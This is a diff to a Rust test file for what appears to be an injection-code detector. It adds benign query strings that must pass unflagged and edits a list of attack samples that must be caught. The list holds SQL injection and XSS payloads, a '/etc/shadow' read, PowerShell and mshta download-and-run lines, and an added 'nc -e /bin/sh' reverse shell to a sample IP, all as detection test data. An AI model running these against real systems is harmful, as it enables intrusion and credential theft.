@@ -161,6 +161,30 @@ fn ordinary_parameters_are_not_code() {
         "q=__proto__+vs+prototype",
         "msg=at+java.lang.System.arraycopy(Native+Method)",
         "q=curl+https://api.example.com/v1/items+-H+%27Accept:+json%27",
+        // From a second reviewer's set of ordinary traffic.
+        "q=curl+cream+%26+gel",
+        "q=bicep+curl+|+dumbbell",
+        "action_name=Using+curl+in+PHP+|+Stack+Overflow",
+        "q=How+to+use+echo+in+Linux+|+Bash+Scripting",
+        "returnUrl=javascript:history.back()",
+        "t=javascript:__doPostBack(%27ctl00%24x%27,%27%27)",
+        "q=%22Amber%22+-+Alert+(2023+film)",
+        "q=Philadelphia+Union+select+2+players+in+SuperDraft",
+        "q=select+size,+color+from+menu",
+        "q=drop+table+lamp",
+        "q=python+delete+from+list+where+value",
+        "q=update+iphone+set+time+=+auto",
+        "q=laptop+freezes%3B+shutdown",
+        "jql=project+%3D+%22ABC%22+AND+%22Epic+Link%22+%3D+%22ABC-123%22",
+        "q=1+and+1+%3D+2",
+        "err=subprocess.Popen([%27ls%27])",
+        "msg=os.system(%27ls%27)+failed",
+        "q=powershell+-contains",
+        "q=%3Cscript%3E+defer",
+        "dl=data:text/plain;charset=utf-8,hello",
+        "html=%3Cmeta+http-equiv%3D%22X-UA-Compatible%22%3E",
+        "q=file+type+C:%5CTemp",
+        "text=%7B%7B%23expr:+60*60*24%7D%7D",
     ] {
         assert_eq!(query(q), None, "{q}");
     }
@@ -194,6 +218,14 @@ fn user_agents_are_not_code_unless_they_carry_it() {
 fn paths_carry_code_too() {
     assert_eq!(
         injected_code(Some("/api/child_process.html"), None, None),
+        None
+    );
+    assert_eq!(
+        injected_code(
+            Some("/$%7Bprocess.env.REACT_APP_API_URL%7D/api/users"),
+            None,
+            None
+        ),
         None
     );
     assert_eq!(
@@ -320,8 +352,7 @@ const ONE_PER_PATTERN: &[&str] = &[
     "(select password from users)",
     "1;drop table users",
     "insert into t(a) values (1)",
-    "delete from users where 1=1",
-    "drop table users",
+    "delete from users where id=1",
     "update users set role='admin'",
     "exec master..xp_cmdshell 'dir'",
     "create function f(s char(20)) returns char(50)",
@@ -329,9 +360,12 @@ const ONE_PER_PATTERN: &[&str] = &[
     "x' or '1'='1",
     "admin'--",
     "1 or 1=1",
+    "1 and extractvalue(1,concat(0x7e,version()))",
+    "1' order by 10-- -",
     "<img src=x onerror=alert(1)>",
-    "<script>",
+    "<script>alert(1)</script>",
     "\"><b>",
+    "\" autofocus onfocus=alert(1) x=\"",
     "javascript:alert(1)",
     "\";setTimeout(name,1)//",
     "x:expression;-moz-binding:url(x)",
@@ -343,13 +377,14 @@ const ONE_PER_PATTERN: &[&str] = &[
     "cat /etc/shadow",
     "iex(New-Object Net.WebClient)",
     "mshta http://198.51.100.7/a.hta",
+    "nc -e /bin/sh 198.51.100.7 4444",
     "<?php echo 1; ?>",
     "$_GET['x']",
     "phpinfo()",
     "php://filter/resource=x",
     "__proto__[admin]",
     "{{7*7}}",
-    "java.lang.Runtime",
+    "java.lang.Runtime.getRuntime()",
 ];
 
 #[test]
